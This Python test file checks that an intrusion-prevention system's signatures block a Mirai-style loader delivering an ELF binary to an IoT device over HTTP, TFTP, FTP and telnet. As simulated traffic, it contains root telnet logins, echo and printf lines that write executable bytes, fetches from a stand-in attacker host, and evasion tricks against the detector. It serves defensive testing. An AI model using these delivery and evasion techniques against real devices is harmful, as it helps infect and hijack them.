"""The shipped loader patches: a Linux executable must not reach a device.

The last step of a Mirai-style infection puts a binary on the device: the
device runs `wget` (HTTP) or `tftp`, or the attacker types the binary in with
`echo -ne '\\x7f\\x45...'` over telnet. The loader names the file anything,
so patches 9100120-9100128 look at the bytes (and 9100125 drops a body in a
compression the box cannot read): an ELF header in a response
body (as the client saves it: de-chunked, decompressed; and, for a
response a client frames otherwise, right after a line feed in the raw
bytes), in TFTP's first data block, or in a shell's echo line. Each case is one flow through the
whole pipeline, in the box's inline stream mode, with the rules exactly as
shipped (tests/appliance/test_inline.py runs a real download through the
real box).
"""
from __future__ import annotations

import gzip
import zlib
from pathlib import Path

import pytest
from scapy.all import IP, UDP, Ether, Raw, wrpcap

from ips.config import Config
from ips.detect import DetectEngine
from ips.replay import replay
from tests.detect.factories import AlertLog
from tests.detect.make_cases import CLIENT_MAC, SERVER_MAC, _request, _stamp, _tcp_session

ROOT = Path(__file__).resolve().parents[2]
PATCHES = ROOT / "signatures" / "virtual-patches.rules"
LOADER_SIDS = {9100120, 9100121, 9100122, 9100123, 9100124, 9100125, 9100126, 9100127, 9100128}
BOTH = {9100120, 9100124}
"""The body as parsed, and the raw twin: the magic right after a line feed."""
DEVICE = "192.0.2.20"        # $HOME_NET
LOADER = "203.0.113.9"       # the attacker's server
ELF = b"\x7fELF\x01\x01\x01\x00" + bytes(8) + b"\x02\x00\x08\x00" + bytes(range(256)) * 24
"""A 32-bit MIPS executable's header, then filler: 6,164 bytes, five segments."""
MSS = 1400


def _response(head: bytes, body: bytes) -> list[tuple[bool, bytes]]:
    """The response as a server writes it: the head, then MSS-sized segments."""
    return [(False, head)] + [(False, body[i:i + MSS]) for i in range(0, len(body), MSS)]


def _chunked(body: bytes, size: int) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + size]), body[i:i + size])
                    for i in range(0, len(body), size)) + b"0\r\n\r\n"


def _raw_deflate(body: bytes) -> bytes:
    compressor = zlib.compressobj(wbits=-15)
    return compressor.compress(body) + compressor.flush()


GET = _request("GET", "/bins/x86")
HEAD_200 = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"

# name -> (segments of one connection, the sids that must drop it; empty: must pass)
HTTP_CASES = {
    "content-length": ([(True, GET)] + _response(HEAD_200 + b"Content-Length: %d\r\n\r\n" % len(ELF), ELF),
                       BOTH),
    "head and body in one segment": ([(True, GET), (False, HEAD_200 + b"Content-Length: %d\r\n\r\n"
                                                    % len(ELF[:900]) + ELF[:900])], BOTH),
    "chunked, one byte a chunk": ([(True, GET)] + _response(HEAD_200 + b"Transfer-Encoding: chunked\r\n\r\n",
                                                            _chunked(ELF[:600], 1)), {9100120}),
    # the sender cuts the magic into one-byte segments
    "one byte a segment": ([(True, GET), (False, HEAD_200 + b"Content-Length: %d\r\n\r\n" % len(ELF))]
                           + [(False, ELF[i:i + 1]) for i in range(8)] + _response(b"", ELF[8:])[1:],
                           BOTH),
    "gzip": ([(True, GET)] + _response(HEAD_200 + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
                                       % len(gzip.compress(ELF)), gzip.compress(ELF)), {9100120}),
    "raw deflate labelled deflate": ([(True, GET)] + _response(
        HEAD_200 + b"Content-Encoding: deflate\r\nContent-Length: %d\r\n\r\n" % len(_raw_deflate(ELF)),
        _raw_deflate(ELF)), {9100120}),
    "HTTP/1.0, body until close": ([(True, GET)] + _response(b"HTTP/1.0 200 OK\r\n\r\n", ELF), BOTH),
    # no status line: the parser reads it all as the body, as libhtp and the clients
    "HTTP/0.9, no status line": ([(True, GET)] + _response(b"", ELF)[1:], {9100120}),
    # the client frames it, the parser cannot agree with every client: the raw twin
    "two content-lengths, the client takes the last": ([(True, GET)] + _response(
        HEAD_200 + b"Content-Length: 2\r\nContent-Length: %d\r\n\r\n" % len(ELF), ELF), {9100124}),
    # busybox wget reads a 204's body; the parser, bodiless 204 then no status
    # line, reads it as the body of a response of its own
    "a 204 with a body": ([(True, GET)] + _response(b"HTTP/1.1 204 No Content\r\n\r\n", ELF), BOTH),
    "second response of a keep-alive connection": (
        [(True, _request("GET", "/")), (False, b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"),
         (True, GET)] + _response(HEAD_200 + b"Content-Length: %d\r\n\r\n" % len(ELF), ELF), BOTH),
    # a coding clients undo and the box cannot: what the client saves is unknown
    "brotli": ([(True, GET)] + _response(HEAD_200 + b"Content-Encoding: br\r\nContent-Length: 9\r\n\r\n",
                                         b"\x1b\x08\x00\xf8\x25\x82\x82\x08\x00"), {9100125}),
    # what must pass: what devices and people fetch every day
    "a junk Content-Encoding label": ([(True, _request("GET", "/"))] + _response(
        b"HTTP/1.1 200 OK\r\nContent-Encoding: UTF-8\r\nContent-Length: 13\r\n\r\n", b"<html></html>"),
                                      set()),
    "web page": ([(True, _request("GET", "/"))] + _response(
        b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n", b"<html><body>\x7fELF is a format</body></html>"[:40]),
                 set()),
    "firmware image (uImage)": ([(True, _request("GET", "/fw.bin"))] + _response(
        HEAD_200 + b"Content-Length: 1000\r\n\r\n", b"\x27\x05\x19\x56" + ELF[:996]), set()),
    "text that names the magic": ([(True, _request("GET", "/notes.txt"))] + _response(
        b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n", b"magic: \x7fELF, 32-bit"[:20]), set()),
}


def _http_flows() -> list[tuple[str, list, set, bool]]:
    """(name, frames, sids, the device is the client)."""
    flows = []
    for index, (name, (segments, sids)) in enumerate(HTTP_CASES.items()):
        flows.append((name, _tcp_session(segments, sport=30000 + index, start=index * 2.0,
                                         client=DEVICE, server=LOADER), sids, True))
    # The device serves an executable to an outside client (a developer board,
    # a NAS): the patch guards what reaches the LAN, not what leaves it.
    upload = [(True, GET)] + _response(HEAD_200 + b"Content-Length: %d\r\n\r\n" % len(ELF), ELF)
    flows.append(("executable leaving the LAN", _tcp_session(upload, sport=30100, start=300.0,
                                                             client=LOADER, server=DEVICE), set(), False))
    return flows


def _tftp(block1: bytes, start: float) -> list:
    """A device's `tftp -g -r x LOADER`: the read request to port 69, the
    server's first data block from a port of its own, the device's ack."""
    to_loader = Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=DEVICE, dst=LOADER)
    to_device = Ether(src=SERVER_MAC, dst=CLIENT_MAC) / IP(src=LOADER, dst=DEVICE)
    return _stamp([to_loader / UDP(sport=41000, dport=69) / Raw(b"\x00\x01x86\x00octet\x00"),
                   to_device / UDP(sport=50123, dport=41000) / Raw(b"\x00\x03\x00\x01" + block1),
                   to_loader / UDP(sport=41000, dport=50123) / Raw(b"\x00\x04\x00\x01")], start)


def _ftpget(payload: bytes, start: float, port: int, active: bool = False,
            flood: int = 0) -> list:
    """busybox `ftpget LOADER x mips`: the control connection announces the
    data connection (PASV reply, or the device's PORT), then the file flows
    from the loader to the device on a connection of its own. `flood`: the
    server then announces that many other data connections inside a
    multi-line reply (which the client skips), to push the real one out."""
    announce = ([(True, b"PORT 192,0,2,20,%d,%d\r\n" % divmod(port, 256)), (False, b"200 PORT ok.\r\n")]
                if active else
                [(True, b"PASV\r\n"), (False, b"227 Entering Passive Mode (203,0,113,9,%d,%d).\r\n"
                                        % divmod(port, 256))])
    if flood:
        lines = b"".join(b"227 (198,51,%d,%d,1,1)\r\n" % divmod(i, 256) for i in range(flood))
        reply = b"150-Opening\r\n" + lines + b"150 BINARY mode.\r\n"
        announce += [(False, reply[i:i + MSS]) for i in range(0, len(reply), MSS)]
    control = _tcp_session([(False, b"220 (vsFTPd 3.0.3)\r\n"), (True, b"USER anonymous\r\n"),
                            (False, b"331 Please specify the password.\r\n"), (True, b"PASS a@b\r\n"),
                            (False, b"230 Login successful.\r\n"), (True, b"TYPE I\r\n"),
                            (False, b"200 Switching to Binary mode.\r\n"), *announce,
                            (True, b"RETR mips\r\n")],
                           sport=port - 1, start=start, client=DEVICE, server=LOADER, dport=21)
    pieces = _response(b"", payload)[1:]
    if active:      # the loader connects from port 20 to the port the device named
        data = _tcp_session([(True, piece) for _, piece in pieces], sport=20, start=start + 1.0,
                            client=LOADER, server=DEVICE, dport=port)
    else:
        data = _tcp_session(pieces, sport=port + 1, start=start + 1.0, client=DEVICE, server=LOADER,
                            dport=port)
    return control + data


PROMPTS = [(False, b"\xff\xfd\x01login: "), (True, b"root\r\n"), (False, b"Password: "),
           (True, b"s3cret\r\n"), (False, b"\r\nBusyBox v1.19 built-in shell (ash)\r\n# ")]
ECHO = b"echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .d\r\n"


def _telnet(commands: list[bytes], start: float, sport: int) -> list:
    segments = PROMPTS + [(True, command) for command in commands]
    return _tcp_session(segments, sport=sport, start=start, client=LOADER, server=DEVICE, dport=23)


OTHER_FLOWS = [
    ("tftp: executable", _tftp(ELF[:512], 400.0), {9100121}),
    ("tftp: configuration file", _tftp(b"hostname=cam\n", 410.0), set()),
    ("telnet: echo of an executable", _telnet([b"cd /tmp\r\n", ECHO], 420.0, 31000), {9100122, 9100123}),
    ("telnet: upper-case escapes", _telnet([ECHO.upper()], 430.0, 31001), {9100122, 9100123}),
    # A telnet NOP inside the escape is gone before the shell reads the line:
    # the raw-bytes patch misses it, the one on the shell's line does not.
    ("telnet: NOP inside the escape", _telnet([ECHO.replace(b"x45", b"x4\xff\xf15")], 440.0, 31002),
     {9100123}),
    ("telnet: after forty harmless commands",
     _telnet([b"echo %d\r\n" % i for i in range(40)] + [ECHO.replace(b"\\x7f", b"\\x7\xff\xf1f")],
             450.0, 31003), {9100123}),
    # XiongMai's hidden telnet (port 9527) opens a root shell with no login:
    # only the patch on the shell's line covers a port the raw one does not list
    ("telnet: shell without login on port 9527", _tcp_session(
        [(False, b"\xff\xfd\x01\xff\xfb\x01\r\n~ # "), (True, ECHO)], sport=31005, start=470.0,
        client=LOADER, server=DEVICE, dport=9527), {9100123}),
    ("telnet: printf with octal escapes", _telnet([b"printf '\\177ELF\\1\\1\\1' > .d\r\n"], 480.0, 31006),
     {9100126, 9100127}),
    ("telnet: echo -e with every byte in octal",
     _telnet([b"echo -ne '\\0177\\0105\\0114\\0106\\01' > .d\r\n"], 490.0, 31007), {9100126, 9100127}),
    ("ftp: executable, passive", _ftpget(ELF, 510.0, 50000), {9100128}),
    ("ftp: executable, active (PORT)", _ftpget(ELF, 520.0, 50010, active=True), {9100128}),
    ("ftp: executable after 3,000 other announcements", _ftpget(ELF, 540.0, 50030, flood=3000),
     {9100128}),
    ("ftp: a text file", _ftpget(b"#!/bin/sh\necho ok\n", 530.0, 50020), set()),
    ("telnet: ordinary session", _telnet([b"cat /proc/cpuinfo\r\n", b"echo -ne 'ok\\n'\r\n",
                                          b"printf '\\177 is DEL\\n'\r\n"], 500.0, 31004),
     set()),
]


@pytest.fixture(scope="module")
def outcome(tmp_path_factory):
    folder = tmp_path_factory.mktemp("vpatch-downloads")
    flows = [(name, frames, sids) for name, frames, sids, _ in _http_flows()] + OTHER_FLOWS
    frames, spans = [], {}
    for name, flow_frames, sids in flows:
        spans[name] = (len(frames) + 1, len(frames) + len(flow_frames), sids, flow_frames)
        frames += flow_frames
    wrpcap(str(folder / "downloads.pcap"), frames)
    config = Config()
    config.stream_inline = True     # as the box runs: data is inspected when it arrives
    engine, report = DetectEngine.load([str(PATCHES)], config)
    assert not report.skipped and not report.errors
    alerts = AlertLog()
    summary = replay([str(folder / "downloads.pcap")], engine, folder / "out", config,
                     consumers=[alerts], progress=False)
    assert summary.packets == len(frames)
    by_flow = {name: [a for a in alerts.events if first <= a.pcap_cnt <= last]
               for name, (first, last, _sids, _frames) in spans.items()}
    return spans, by_flow


CASE_NAMES = [name for name, *_ in _http_flows()] + [name for name, *_ in OTHER_FLOWS]


@pytest.mark.parametrize("name", CASE_NAMES)
def test_loader_patches_drop_an_executable_and_pass_the_rest(outcome, name):
    spans, by_flow = outcome
    sids = spans[name][2]
    fired = {a.signature_id for a in by_flow[name]} & LOADER_SIDS
    assert fired == sids, f"{name}: fired {sorted(fired)}, expected {sorted(sids)}"
    assert all(a.action == "blocked" for a in by_flow[name] if a.signature_id in LOADER_SIDS)


@pytest.mark.parametrize("name", ["content-length", "HTTP/1.0, body until close", "one byte a segment"])
def test_the_drop_lands_on_the_packet_that_completes_the_magic(outcome, name):
    """Inline, a dropped packet never reaches the device: the patch must fire
    on the packet that completes the ELF magic, not once 4 KiB have arrived."""
    spans, by_flow = outcome
    first, _last, _sids, frames = spans[name]
    sent = b""
    for index, frame in enumerate(frames):
        if frame.haslayer(Raw) and frame[IP].src == LOADER:
            sent += bytes(frame[Raw].load)
            if b"\r\n\r\n\x7fELF" in sent:
                break
    drops = [a for a in by_flow[name] if a.signature_id in BOTH]
    assert drops and all(alert.pcap_cnt == first + index for alert in drops)
